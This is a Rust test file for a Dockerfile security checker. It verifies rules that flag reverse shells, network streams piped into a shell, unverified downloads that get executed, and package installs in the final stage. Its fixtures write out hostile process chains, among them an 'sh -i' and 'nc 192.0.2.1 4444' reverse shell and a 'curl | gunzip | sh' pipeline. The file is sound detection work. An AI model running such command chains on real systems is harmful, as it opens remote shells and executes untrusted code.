//! Rules that look at what steps did, on deeds that are written here.

use super::*;
use crate::base::Platform;
use crate::diag::Sources;
use crate::facts::{Behaviour, Conduct, Connected, Executed, Observed, Whence};
use crate::plan::Request;

/// A program: its arguments, who started it, and what is told besides.
fn program(words: &str, parent: Option<usize>) -> Executed {
    let argv: Vec<String> = words.split(' ').map(str::to_owned).collect();
    let path = if argv[0].starts_with('/') { argv[0].clone() } else { format!("/bin/{}", argv[0]) };
    let asked = Some(path.clone());
    let folder = Some("/work".to_owned());
    Executed { path, argv, parent, asked, folder, whence: Whence::Layers, ..Executed::default() }
}

fn made(mut program: Executed) -> Executed {
    program.whence = Whence::Step;
    program
}

fn piped(mut program: Executed, input: &str, output: &str) -> Executed {
    program.streams = [(0, input.to_owned()), (1, output.to_owned())].into();
    program
}

/// The messages of one rule about a step with these programs, of which the one at `by` connects.
fn found(rule: &str, text: &str, execs: Vec<Executed>, by: Option<usize>) -> Vec<String> {
    let connects = by.map(|by| Connected { addr: "192.0.2.1:443".into(), by: Some(by) });
    let seen = Behaviour {
        execs,
        connects: connects.into_iter().collect(),
        denied: Some(Vec::new()),
        failed: Some(Vec::new()),
        ..Behaviour::default()
    };
    let conduct = Conduct { seen: Some(Observed::Watched(seen)), ..Conduct::default() };
    judged(rule, text, &conduct).findings.into_iter().map(|finding| finding.message).collect()
}

fn judged(rule: &str, text: &str, conduct: &Conduct) -> Report {
    let mut sources = Sources::new();
    let id = sources.add("Dockerfile", text);
    let (file, _) = crate::dockerfile::parse(id, text);
    let (instructions, _) = crate::instruction::parse_all(&file);
    let mut policy = Policy::builtin("hardened").unwrap();
    policy.apply(&Overrides { only: vec![rule.to_owned()], ..Overrides::default() }).unwrap();
    let request = Request::new(Platform::new("linux", "amd64", None));
    let input = TextInput {
        file: &file,
        instructions: &instructions,
        errors: &[],
        sources: &sources,
        request: &request,
        bases: &Bases::none(),
        squash: false,
        today: None,
        tags: None,
        context: None,
    };
    let span = instructions.last().unwrap().span();
    let mut report = check_text(input, &policy);
    let steps = [StepInput { span, conduct }];
    let acts = check_behaviour(BehaviourInput { text: input, steps: &steps }, &policy);
    report.append(acts, &policy);
    report
}

const TEXT: &str = "FROM debian\nRUN ./setup\n";

#[test]
fn programs_that_tools_make_are_no_payload() {
    let rule = "exec-from-scratch-dir";
    let run = || made(program("/tmp/b/conftest", Some(1)));
    let check = |before: &str, want: usize| {
        let execs = vec![program("sh -c ./setup", None), program(before, Some(0)), run()];
        assert_eq!(found(rule, TEXT, execs, None).len(), want, "{before}");
    };
    // What stands above it, under whatever version of its name.
    for maker in ["make", "x86_64-linux-gnu-gcc-12", "pip3.11 install x", "go run ."] {
        check(maker, 0);
    }
    check("python3 run.py", 1);
    // What was done before it.
    let beside = |before: &str| {
        let mut run = run();
        run.parent = Some(0);
        let execs = vec![program("sh -c ./setup", None), program(before, Some(0)), run];
        found(rule, TEXT, execs, None).len()
    };
    assert_eq!(beside("tar -xf a.tar -C /tmp/b"), 0);
    assert_eq!(beside("cc -o /tmp/b/conftest x.c"), 0);
    assert_eq!(beside("tar -xf a.tar -C /opt"), 1);
    assert_eq!(beside("cc -o /tmp/other x.c"), 1);
    // What was there before is nobody's payload.
    let execs = vec![program("sh -c ./setup", None), program("/tmp/b/conftest", Some(0))];
    assert_eq!(found(rule, TEXT, execs, None).len(), 0);
}

#[test]
fn a_package_manager_is_told_once() {
    let execs = || {
        vec![
            program("sh -c ./setup", None),
            program("apt-get install -y curl", Some(0)),
            program("dpkg -i curl.deb", Some(1)),
            program("sh /var/lib/dpkg/info/curl.postinst", Some(2)),
        ]
    };
    let rule = "package-install-in-final";
    assert_eq!(found(rule, TEXT, execs(), None).len(), 1);
    // The text has said it already.
    let text = "FROM debian\nRUN apt-get install -y curl\n";
    assert_eq!(found(rule, text, execs(), None).len(), 1);
    // A stage that does not ship may.
    let text = "FROM debian\nFROM debian AS x\nRUN ./setup\n";
    assert_eq!(found(rule, text, execs(), None).len(), 1);
    let execs = vec![program("sh -c ./setup", None), program("apt-get update", Some(0))];
    assert_eq!(found(rule, TEXT, execs, None).len(), 0);
}

#[test]
fn only_what_runs_a_stream_of_the_network_is_told() {
    let rule = "pipe-to-interpreter";
    let check = |feeder: &str, last: &str, by: Option<usize>, want: usize| {
        let execs = vec![
            program("sh -c ./setup", None),
            piped(program(feeder, Some(0)), "/dev/null", "pipe:[1]"),
            piped(program("gunzip", Some(0)), "pipe:[1]", "pipe:[2]"),
            piped(program(last, Some(0)), "pipe:[2]", "/dev/null"),
        ];
        assert_eq!(found(rule, TEXT, execs, by).len(), want, "{feeder} | gunzip | {last}");
    };
    check("curl -s x", "sh", Some(1), 1);
    check("own-fetcher", "python3 -", Some(1), 1);
    check("curl -s x", "python3 parse.py", Some(1), 0);
    check("curl -s x", "tar -x", Some(1), 0);
    check("cat x", "sh", None, 0);
    // Somebody else's connection.
    check("cat x", "sh", Some(3), 0);
}

#[test]
fn what_was_fetched_and_checked_is_no_finding() {
    let rule = "download-executed-unverified";
    let check = |between: &str, want: usize| {
        let execs = vec![
            program("sh -c ./setup", None),
            program("curl -fsSLo i.sh https://example.org/i.sh", Some(0)),
            program(between, Some(0)),
            program("bash /work/i.sh", Some(0)),
        ];
        assert_eq!(found(rule, TEXT, execs, Some(1)).len(), want, "{between}");
    };
    check("sha256sum -c -", 0);
    check("sha256sum i.sh", 0);
    check("gpg --verify i.sh.asc i.sh", 0);
    check("cat i.sh", 1);
    check("sha256sum other", 1);
}

#[test]
fn a_shell_between_two_pipes_of_a_connection_is_a_reverse_shell() {
    let check = |output: &str, by, want: usize| {
        let execs = vec![
            program("sh -c ./setup", None),
            piped(program("sh -i", Some(0)), "/tmp/f", "pipe:[1]"),
            piped(program("nc 192.0.2.1 4444", Some(0)), "pipe:[1]", output),
        ];
        assert_eq!(found("reverse-shell", TEXT, execs, by).len(), want, "{output}");
    };
    check("/tmp/f", Some(2), 1);
    check("/tmp/log", Some(2), 0);
    check("/tmp/f", None, 0);
}

#[test]
fn a_step_without_facts_is_skipped() {
    let conduct =
        Conduct { seen: Some(Observed::Skipped("no ptrace".into())), ..Conduct::default() };
    let report = judged("fileless-exec", TEXT, &conduct);
    assert!(report.findings.is_empty());
    assert_eq!(report.skipped[0].reason, "no ptrace");
    // Whatever else it has looked at.
    assert_eq!(judged("reverse-shell", TEXT, &conduct).skipped.len(), 1);
    assert_eq!(judged("reverse-shell", TEXT, &Conduct::default()).skipped.len(), 0);
    let policy = Policy::builtin("hardened").unwrap();
    assert!(is_plain(&Conduct::default(), &Policy::builtin("none").unwrap()));
    assert!(!is_plain(&conduct, &policy) && !policy.watches());
    assert!(Policy::builtin("paranoid").unwrap().watches());
}
